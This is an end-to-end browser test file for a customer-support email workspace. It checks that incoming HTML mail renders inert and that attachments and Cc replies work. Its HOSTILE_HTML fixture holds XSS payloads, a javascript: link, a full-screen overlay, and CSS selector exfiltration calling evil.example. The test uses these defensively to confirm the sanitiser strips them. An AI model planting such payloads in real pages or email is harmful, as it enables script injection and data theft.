import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { PASSWORD, type TestUser } from "../factories";
import { listeningUrl } from "../helpers/app";
import { sendMail, startEmailApp, startSmtpSink, waitFor } from "../helpers/email";
import { haveChromium, launch, newPage, shot } from "./browser";

const HOSTILE_HTML = `<html><head><style>body{background:url(https://evil.example/css.png)} input[value^="a"]{background:url(https://evil.example/a)}</style></head>
<body><p>Hello, <b>the invoice</b> is wrong.</p>
<script>alert("script")</script>
<img src="x" onerror="alert('onerror')">
<img src="https://track.example/pixel.gif" alt="tracking">
<a href="javascript:alert('link')">click</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>
</body></html>`;

describe.runIf(haveChromium)("email in the agent workspace", () => {
  let t: Awaited<ReturnType<typeof startEmailApp>>;
  let sink: Awaited<ReturnType<typeof startSmtpSink>>;
  let url: string;
  let browser: Browser;
  const dialogs: string[] = [];

  async function signIn(user: TestUser) {
    const { ctx, page } = await newPage(browser, dialogs);
    await page.goto(url);
    await page.getByLabel("Email").fill(user.email);
    await page.getByLabel("Password").fill(PASSWORD);
    await page.getByLabel("Password").press("Enter");
    await page.getByTestId("nav-count-all").waitFor();
    return { ctx, page };
  }

  beforeAll(async () => {
    sink = await startSmtpSink();
    t = await startEmailApp({}, { listen: true });
    url = listeningUrl(t.app);
    await t.createInbox(t.a.admin, {
      address: "care@acme.test",
      name: "Acme Care",
      smtp: { host: "127.0.0.1", port: sink.port, security: "none" },
    });
    await sendMail(t.smtpPort, {
      from: "Nina <nina@example.com>",
      to: "care@acme.test",
      cc: "accounts@example.com",
      subject: "Invoice is wrong",
      text: "Hello, the invoice is wrong.",
      html: HOSTILE_HTML,
      attachments: [{ filename: "invoice 2026.pdf", content: Buffer.from("%PDF-1.4 fake invoice"), contentType: "application/pdf" }],
    });
    await waitFor(
      async () => (await t.as(t.a.agent, { method: "GET", url: "/api/v1/conversations?q=invoice" })).json().items.length > 0,
      15_000,
      "the mail",
    );
    browser = await launch();
  });
  afterAll(async () => {
    await browser?.close();
    await t?.close();
    await sink?.close();
  });

  it("renders hostile HTML inert, holds back remote images, downloads the attachment, and replies with the Cc the agent set", async () => {
    const { ctx, page } = await signIn(t.a.agent);
    await page.getByRole("button", { name: /All open/ }).click();
    await page.locator('[data-testid="conversation-row"]', { hasText: "Invoice is wrong" }).click();
    const msg = page.locator('[data-testid="message"][data-kind="incoming"]');
    await msg.waitFor();
    expect(await msg.getByTestId("email-header").textContent()).toContain("Cc accounts@example.com");

    const frame = msg.locator("iframe");
    const srcdoc = (await frame.getAttribute("srcdoc")) ?? "";
    expect(srcdoc).toContain("the invoice");
    for (const bad of ["<script", "onerror", "javascript:", "evil.example", "position:fixed"]) expect(srcdoc).not.toContain(bad);
    // The tracking pixel is held back (data-remote-src), not loaded.
    expect(srcdoc).not.toMatch(/\ssrc="https?:/);
    expect(srcdoc).toContain('data-remote-src="https://track.example/pixel.gif"');
    expect(await frame.getAttribute("sandbox")).toBe("");
    await expect.poll(() => msg.getByTestId("load-images").isVisible()).toBe(true);
    await shot(page, "email-message");

    const download = page.waitForEvent("download");
    await msg.getByTestId("attachment").click();
    const file = await download;
    expect(file.suggestedFilename()).toBe("invoice 2026.pdf");

    // The reply goes to Nina, with the Cc the agent sees, minus the one removed, plus one added.
    await page.getByTestId("composer").waitFor();
    const recipients = page.getByTestId("email-recipients");
    await recipients.getByText("accounts@example.com").waitFor();
    await recipients.getByRole("button", { name: "Remove accounts@example.com from Cc" }).click();
    await page.getByTestId("cc-input").fill("boss@example.com");
    await page.getByTestId("cc-input").press("Enter");
    await page.getByTestId("composer").fill("Sorry about the invoice, Nina. A corrected one is attached to our system.");
    await shot(page, "email-composer");
    await page.getByTestId("send-button").click();
    const sent = await waitFor(async () => sink.received.find((m) => m.mail.text?.includes("corrected one")), 15_000, "the reply");
    expect(sent.envelope.to.sort()).toEqual(["boss@example.com", "nina@example.com"]);
    await page.locator('[data-testid="message"][data-kind="reply"]').getByText("Sent").waitFor();
    expect(dialogs).toEqual([]);
    await ctx.close();
  });

  it("admins manage inboxes in the workspace", async () => {
    const { ctx, page } = await signIn(t.a.admin);
    await page.getByTestId("nav-settings-inboxes").click();
    await page.getByRole("heading", { name: "Email inboxes" }).waitFor();
    await page.getByTestId("inbox-card").first().waitFor();
    expect(await page.getByTestId("smtp-receiver").textContent()).toContain(`port ${t.smtpPort}`);
    await page.getByRole("button", { name: "Add an email inbox" }).click();
    await page.getByLabel("Name", { exact: true }).fill("Billing");
    await page.getByLabel("Address", { exact: true }).fill("billing@acme.test");
    await page.getByLabel("Signature", { exact: true }).fill("Acme Billing");
    await shot(page, "inbox-form");
    await page.getByRole("button", { name: "Add inbox" }).click();
    await page.locator('[data-testid="inbox-card"]', { hasText: "billing@acme.test" }).waitFor();
    await shot(page, "inboxes");
    await ctx.close();
  });
});
